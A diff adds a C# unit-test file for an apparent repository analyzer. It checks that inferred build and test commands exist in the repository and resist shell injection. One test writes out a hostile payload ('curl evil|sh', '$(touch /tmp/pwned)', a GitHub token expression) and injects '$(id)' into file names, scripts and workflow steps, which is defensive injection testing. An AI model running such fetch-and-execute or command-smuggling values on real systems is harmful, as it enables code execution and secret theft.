@@ -1,0 +1,128 @@
+using System.Text.RegularExpressions;
+using AutoDevOps.Analyzer.Detectors;
+
+namespace AutoDevOps.Analyzer.Tests.Detectors;
+
+/// <summary>Checks each command against the repository by other means than the detectors': every program that is called must be declared
+/// there, every script or target defined, every path present.</summary>
+public sealed partial class NoInventedCommandTests
+{
+    private static readonly string[] Toolchain = ["npm", "npx", "yarn", "pnpm", "bun", "go", "dotnet", "pip", "python", "uv", "poetry", "pdm", "hatch", "pipenv"];
+
+    public static TheoryData<string> Repositories => FixtureRepositories.Names;
+
+    [Theory]
+    [MemberData(nameof(Repositories))]
+    public void Every_command_resolves_to_something_in_the_repository(string name)
+    {
+        var snapshot = FixtureRepositories.Snapshot(name);
+        var (model, _) = RepositoryModelBuilder.Build(snapshot);
+        foreach (var component in model.Components)
+        {
+            foreach (var command in component.Commands)
+            {
+                Assert.True(Resolves(snapshot, command), $"{name}: nothing in the repository answers for `{command.Run}`.");
+            }
+        }
+    }
+
+    [Theory]
+    [InlineData("npm run deploy")]
+    [InlineData("make ghost")]
+    [InlineData("npx --no-install ghost")]
+    [InlineData("./scripts/ghost")]
+    [InlineData("tox run -e ghost")]
+    [InlineData("uv run ghost")]
+    public void The_check_itself_refuses_what_is_not_there(string run)
+    {
+        var snapshot = RepositorySnapshot.FromText(("package.json", "{\"scripts\":{\"test\":\"jest\"}}"), ("Makefile", "test:\n\tjest\n"), ("tox.ini", "[testenv]\n"), ("pyproject.toml", "[project]\n"));
+        Assert.False(Resolves(snapshot, new(CommandKind.Test, run, ".", 1, [new("package.json", 0)])));
+    }
+
+    [Theory]
+    [MemberData(nameof(Repositories))]
+    public void No_command_carries_what_a_shell_or_a_vendor_would_expand(string name)
+    {
+        var (model, _) = RepositoryModelBuilder.Build(FixtureRepositories.Snapshot(name));
+        Assert.All(model.Components.SelectMany(component => component.Commands),
+            command => Assert.DoesNotMatch(Dangerous(), command.Run));
+    }
+
+    [Fact]
+    public void Names_made_to_be_run_reach_no_command()
+    {
+        const string Payload = "$(touch /tmp/pwned)`id`;curl evil|sh\n${{ github.token }}'\"&";
+        var json = System.Text.Json.JsonSerializer.Serialize(Payload)[1..^1];
+        var (model, diagnostics) = RepositoryModelBuilder.Build(RepositorySnapshot.FromText(
+            ("package.json", $"{{\"name\":\"{json}\",\"packageManager\":\"pnpm@{json}\",\"engines\":{{\"node\":\"{json}\"}},\"workspaces\":[\"*\"],\"scripts\":{{\"test{json}\":\"jest\",\"test\":\"jest {json}\"}}}}"),
+            ("$(id)/package.json", "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\"}}"),
+            ("pyproject.toml", $"[project]\nname = \"{json.Replace("\\u0027", "'").Replace("\\u0026", "&")}\"\n[project.optional-dependencies]\n\"{json.Replace("\\u0027", "'").Replace("\\u0026", "&")}\" = [\"pytest\", \"mypy\"]\n[tool.poe.tasks]\n\"test; id\" = \"x\"\n"),
+            ("test_a.py", "import unittest\n"), ("tox.ini", "[testenv:lint;$(id)]\n"), (".nvmrc", "$(id)\n"), (".python-version", "3.12; id\n"),
+            ("Makefile", "lint;id:\n\techo\ntest`id`:\n\techo\n"), ("justfile", "test$(id):\n  x\n"), ("Taskfile.yml", "tasks:\n  \"lint\\nid\": x\n"),
+            ("noxfile.py", "import nox\n@nox.session(name=\"lint $(id)\")\ndef a(session): pass\n"),
+            ("go.mod", "module $(id)\ngo $(id)\n"), ("a`id`/b.go", "package a\n"), ("a.go", "package a\n"),
+            ("$(id).sln", ""), ("B.csproj", "<Project/>"), ("compose.yaml", "services:\n  x:\n    image: \"postgres:$(id)\"\n"),
+            (".github/workflows/a.yml", "jobs:\n  test:\n    steps:\n      - run: npm test $(id)\n      - run: pytest `id`\n      - run: npm test -- ${{ github.head_ref }}\n      - run: go test $X ./...\n")));
+
+        Assert.DoesNotContain(diagnostics, diagnostic => diagnostic.Message.Contains("detector failed", StringComparison.Ordinal));
+        Assert.Equal(["dotnet", "go", "node", "python"], model.Components.Select(component => component.Ecosystem).Distinct().Order(StringComparer.Ordinal));
+        Assert.All(model.Components.SelectMany(component => component.Commands), command =>
+        {
+            Assert.DoesNotMatch(Dangerous(), command.Run);
+            Assert.DoesNotMatch(Dangerous(), command.WorkingDirectory);
+        });
+        Assert.All(model.Components.SelectMany(component => component.Runtimes).SelectMany(runtime => runtime.Versions), version => Assert.Matches("^[0-9A-Za-z.*/-]+$", version));
+        Assert.All(model.Components.SelectMany(component => component.Services), service => Assert.Matches("^[0-9A-Za-z.-]*$", service.Version ?? ""));
+    }
+
+    private static bool Resolves(RepositorySnapshot snapshot, Command command)
+    {
+        var folder = command.WorkingDirectory == "." ? "" : command.WorkingDirectory + "/";
+        string? Text(string path) => snapshot.Find(folder + path)?.Text;
+        bool Mentions(string word) => snapshot.Files.Any(file => file.Extension is ".json" or ".toml" or ".txt" or ".cfg" or ".ini" or ".py" or ".yml" or ".mod" || file.Name is "Pipfile")
+            && snapshot.Files.Any(file => Regex.IsMatch(file.Text + " " + file.Name, $"(?<![A-Za-z0-9]){Regex.Escape(word)}(?![A-Za-z0-9])", RegexOptions.None, TimeSpan.FromSeconds(1)));
+
+        var words = command.Run.Split(' ');
+        return words switch
+        {
+            ["npm", "ci", ..] => Text("package-lock.json") is not null || Text("npm-shrinkwrap.json") is not null,
+            ["yarn" or "pnpm" or "bun", "install", .. var options] when options.Any(option => option is "--frozen-lockfile" or "--immutable") =>
+                new[] { "yarn.lock", "pnpm-lock.yaml", "bun.lock" }.Any(name => Text(name) is not null),
+            ["npm" or "yarn" or "pnpm" or "bun", "install", ..] => Text("package.json") is not null,
+            ["npm" or "yarn" or "pnpm", "test", ..] => HasScript(Text("package.json"), "test"),
+            ["npm" or "pnpm" or "bun", "run", var script, ..] => HasScript(Text("package.json"), script),
+            ["yarn", "run", var script, ..] => HasScript(Text("package.json"), script) || Mentions(script),
+            ["npx" or "pnpm", "--no-install" or "exec", var tool, ..] => Text("package.json")?.Contains($"\"{Package(tool)}\"", StringComparison.Ordinal) == true,
+            ["make", var target] => Regex.IsMatch(Text("Makefile") ?? "", $"^{Regex.Escape(target)}:", RegexOptions.Multiline, TimeSpan.FromSeconds(1)),
+            ["task", var task] => Text("Taskfile.yml")?.Contains($"  {task}:", StringComparison.Ordinal) == true,
+            ["go", ..] => Text("go.mod") is not null,
+            ["golangci-lint", ..] => Text(".golangci.yml") is not null,
+            ["dotnet", "tool", "restore"] => Text(".config/dotnet-tools.json") is not null,
+            ["dotnet", ..] => words.Where(word => word.EndsWith("proj", StringComparison.Ordinal) || word.Contains(".sln", StringComparison.Ordinal)).All(path => Text(path) is not null)
+                && snapshot.In(folder.TrimEnd('/')).Any(file => file.Extension is ".sln" or ".slnx" or ".csproj" or ".fsproj"),
+            ["pip", "install", "nox"] => Text("noxfile.py") is not null,
+            ["pip", "install", "tox"] => Text("tox.ini") is not null,
+            ["pip", "install", .. var arguments] => arguments.Where(argument => argument.EndsWith(".txt", StringComparison.Ordinal)).All(path => Text(path) is not null),
+            ["tox", "run", "-e", "py"] => Text("tox.ini") is not null,
+            ["tox", "run", "-e", var environment] => Text("tox.ini")?.Contains($"[testenv:{environment}]", StringComparison.Ordinal) == true,
+            ["nox", "-s", var session] => Text("noxfile.py")?.Contains($"def {session}(", StringComparison.Ordinal) == true,
+            ["hatch", "run", var script] => Mentions(script.Split(':')[^1]),
+            ["python", "manage.py", "test"] => Text("manage.py") is not null,
+            ["uv", "sync", ..] => Text("uv.lock") is not null,
+            ["poetry", "install", ..] => Text("pyproject.toml")?.Contains("[tool.poetry", StringComparison.Ordinal) == true,
+            ["pipenv", "sync", "--dev"] => Text("Pipfile.lock") is not null,
+            ["uv" or "poetry" or "pdm" or "pipenv", "run", var tool, ..] => Mentions(tool),
+            [var script, ..] when script.StartsWith("./", StringComparison.Ordinal) => Text(script[2..]) is not null,
+            [var tool, ..] => !Toolchain.Contains(tool) && Mentions(tool),
+            _ => false,
+        };
+    }
+
+    private static string Package(string tool) => tool switch { "tsc" => "typescript", "biome" => "@biomejs/biome", _ => tool };
+
+    private static bool HasScript(string? manifest, string name) =>
+        manifest is not null && Regex.IsMatch(manifest, $"\"{Regex.Escape(name)}\"\\s*:\\s*\"", RegexOptions.None, TimeSpan.FromSeconds(1));
+
+    [GeneratedRegex(@"[$`;|<>\n]|\$\{\{", RegexOptions.NonBacktracking)]
+    private static partial Regex Dangerous();
+}
